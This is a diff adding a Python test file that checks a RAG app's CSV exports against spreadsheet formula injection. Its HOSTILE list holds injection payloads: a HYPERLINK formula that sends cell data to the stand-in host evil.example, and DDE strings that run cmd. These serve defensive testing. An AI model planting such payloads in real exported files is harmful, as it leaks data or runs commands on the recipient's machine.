@@ -1,0 +1,42 @@
+"""CSV formula injection: tables that show document text or questions must not hand a
+spreadsheet a live `=HYPERLINK(...)` (issue 16, item 8). The tables' toolbar download is off
+(client.disableDataExport); the app's own CSV downloads neutralise formula cells."""
+
+from __future__ import annotations
+
+import csv
+import io
+import tomllib
+from pathlib import Path
+
+import pandas as pd
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rag_core.table import FORMULA_STARTS, csv_safe, documents_frame, to_safe_csv
+from rag_core.types import Document
+
+ROOT = Path(__file__).resolve().parents[1]
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_the_toolbar_download_is_off():
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert config["client"]["disableDataExport"] is True
+
+
+def test_a_documents_csv_has_no_live_formula():
+    frame = documents_frame([Document(source=h, section=h, text=h) for h in HOSTILE])
+    for row in csv.reader(io.StringIO(to_safe_csv(frame), newline="")):
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), cell
+
+
+@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
+def test_only_formula_cells_change_and_keep_their_text(texts):
+    frame = pd.DataFrame({"text": texts, "n": range(len(texts))})
+    safe = csv_safe(frame)
+    for before, after in zip(texts, safe["text"]):
+        assert after == ("'" + before if before.startswith(FORMULA_STARTS) else before)
+    assert list(safe["n"]) == list(frame["n"])
